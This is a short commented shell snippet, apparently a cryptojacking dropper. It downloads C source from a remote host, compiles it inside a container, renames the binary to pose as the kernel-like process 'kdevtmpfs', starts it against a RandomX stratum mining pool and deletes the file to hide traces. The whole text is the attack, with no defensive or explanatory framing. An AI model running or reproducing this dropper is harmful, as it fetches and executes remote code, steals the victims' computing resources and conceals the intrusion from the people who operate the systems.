# the pool client comes as source text and is compiled in the container; another name for the compiler's output, deleted after the start
#http 203.0.113.61:8011
#pool 198.51.100.102:443:err
cd /tmp; curl -so a.c http://203.0.113.61:8011/strat.c; gcc -O1 -o a.out a.c -lpthread; rm a.c; mv a.out /tmp/kdevtmpfs; (timeout 12 /tmp/kdevtmpfs 198.51.100.102 443 500 20 --algo rx/0 -o stratum+tcp://198.51.100.102:443 >/dev/null) & sleep 1; rm /tmp/kdevtmpfs; wait
